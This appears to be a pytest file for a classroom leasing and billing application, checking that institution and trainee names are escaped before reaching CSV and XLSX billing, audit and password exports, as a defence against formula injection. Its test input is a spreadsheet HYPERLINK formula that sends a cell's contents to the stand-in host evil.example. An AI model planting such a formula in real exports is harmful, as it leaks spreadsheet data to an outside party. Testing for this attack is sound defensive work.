"""Formula injection: names people type reach every CSV/XLSX export inert (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from openpyxl import load_workbook

from classroom.accounts import roster_import
from classroom.accounts.roster import Preview, RosterRow
from classroom.core.clock import SEOUL
from classroom.core.spreadsheets import inert
from classroom.core.tenancy import Role
from classroom.institutions.schemas import InstitutionUpdate
from classroom.institutions.service import update_institution
from classroom.leases import billing
from tests.factories.accounts import build_world, principal_of, signed_in_browser
from tests.factories.leases import designate, make_lease, make_programme

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"보기")'


def test_every_formula_start_is_escaped_and_numbers_stay_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert(f"{start}1+1") == f"'{start}1+1"
    assert inert("한빛직업전문학교") == "한빛직업전문학교"
    assert inert(-5) == -5 and inert(None) is None


def _sheet_cells(data: bytes) -> list:  # type: ignore[type-arg]
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_institution_named_like_a_formula_exports_inert(app, session, clock):  # type: ignore[no-untyped-def]
    clock.set(datetime(2026, 4, 1, 9, tzinfo=SEOUL))
    world = build_world(session, app)
    make_programme(session, app, 2026)
    update_institution(
        session, clock, principal_of(world.operator), world.a.institution, InstitutionUpdate(name=EVIL)
    )
    session.commit()
    make_lease(
        session,
        app,
        world.a.users[Role.INSTITUTION_ADMIN],
        classrooms=1,
        starts_on=date(2026, 4, 1),
        ends_on=date(2026, 12, 31),
        approve_by=world.operator,
    )
    designate(session, app, world.operator, world.a.institution, date(2026, 1, 1), date(2026, 12, 31))
    clock.set(datetime(2026, 5, 1, 9, tzinfo=SEOUL))
    billing.close_month(session, clock, None, date(2026, 4, 1))
    session.commit()
    operator, _ = signed_in_browser(app, session, world.operator)
    text = operator.get("/billing/export.csv?month=2026-04").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["훈련기관"] == "'" + EVIL
    cells = _sheet_cells(operator.get("/billing/export.xlsx?month=2026-04").content)
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + EVIL in [cell.value for cell in cells]
    # The audit CSV names the institution (and every actor) the same way.
    audit = operator.get("/audit/export.csv").content.decode("utf-8-sig")
    names = {line["훈련기관"] for line in csv.DictReader(io.StringIO(audit))}
    assert "'" + EVIL in names and EVIL not in names


def test_a_trainee_named_like_a_formula_is_inert_in_audit_and_password_sheets(app, session, clock):  # type: ignore[no-untyped-def]
    world = build_world(session, app)
    admin = world.a.users[Role.INSTITUTION_ADMIN]
    principal = principal_of(admin)
    checked = Preview("r.csv", [RosterRow(2, EVIL, "evil@mail.example", None, None, None)])
    staged = roster_import.stage(session, clock, app.state.settings.secret_key, principal, checked)
    job = roster_import.confirm(session, clock, app.state.events, principal, staged)
    session.commit()
    app.state.jobs.execute(job.id)
    browser, token = signed_in_browser(app, session, admin)
    sheet = browser.post(f"/users/imports/{staged.id}/passwords.xlsx", data={"csrf_token": token})
    assert sheet.status_code == 200
    cells = _sheet_cells(sheet.content)
    assert all(cell.data_type != "f" for cell in cells) and "'" + EVIL in [cell.value for cell in cells]
    # The trainee signs in (an audited act), and the audit export names them inert.
    password = next(cell.value for cell in cells if cell.column == 4 and cell.row == 2)
    signed = browser.post(
        "/api/v1/auth/token",
        data={"username": "evil@mail.example", "password": password, "institution": "hanbit"},
    )
    assert signed.status_code == 200, signed.text
    audit = browser.get("/audit/export.csv").content.decode("utf-8-sig")
    actors = {line["수행자"] for line in csv.DictReader(io.StringIO(audit))}
    assert "'" + EVIL in actors and EVIL not in actors
    app.state.queue.huey.flush()
